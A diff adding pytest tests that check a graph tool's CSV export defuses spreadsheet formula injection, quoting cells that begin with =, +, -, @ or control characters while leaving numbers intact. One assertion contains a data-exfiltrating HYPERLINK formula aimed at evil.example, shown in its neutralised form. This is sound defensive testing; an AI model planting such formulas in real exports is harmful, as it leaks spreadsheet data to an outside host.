@@ -7,6 +7,8 @@ import io
 import zipfile
 from pathlib import Path
 
+import pytest
+
 from graph import Explorer, ViewSpec
 from graph.export import export_bytes, export_view
 from graph.export.tabular import EDGE_COLUMNS, NODE_COLUMNS
@@ -89,3 +91,42 @@ def test_payloads_are_cells_not_markup() -> None:
 def test_same_view_same_bytes() -> None:
     view = Explorer.from_path(DATA / "tiny.yaml").view()
     assert export_bytes(view, "csv") == export_bytes(view, "csv")
+
+
+HOSTILE = DATA / "hostile_valid"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def hostile_tables(name: str) -> dict[str, list[dict[str, str]]]:
+    return tables(export_bytes(Explorer.from_path(HOSTILE / name).view(ViewSpec(claims=True)), "csv"))
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("name", sorted(path.name for path in HOSTILE.glob("csv_*.yaml")))
+def test_no_text_cell_starts_like_a_formula(name: str) -> None:
+    """OWASP's CSV-injection advice: a text cell a spreadsheet would run gets a leading quote."""
+    for rows in hostile_tables(name).values():
+        for row in rows:
+            assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
+
+
+def test_formulas_are_kept_as_text_and_numbers_stay_numbers() -> None:
+    nodes = {row["id"]: row for row in hostile_tables("csv_formula_everywhere.yaml")["nodes.csv"]}
+    assert nodes["payload"]["label"] == "'=1+1" and nodes["payload"]["aliases"] == "'@alias"
+    assert nodes["payload"]["attr_note"] == "'-1+1" and nodes["payload"]["attr_count"] == "-5"
+    assert any(float(row["y"]) < 0 for row in nodes.values())  # a negative coordinate is not a formula
+    equals = hostile_tables("csv_formula_equals.yaml")["nodes.csv"]
+    assert {row["label"] for row in equals} >= {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"}
+
+
+def test_a_carriage_return_inside_a_field_does_not_start_a_row() -> None:
+    rows = hostile_tables("csv_cr_inside_label.yaml")["nodes.csv"]
+    assert [row["label"] for row in rows if row["id"] == "payload"] == ["first line\rsecond line"]
+    assert all(row["kind"] in ("cause", "condition") for row in rows)
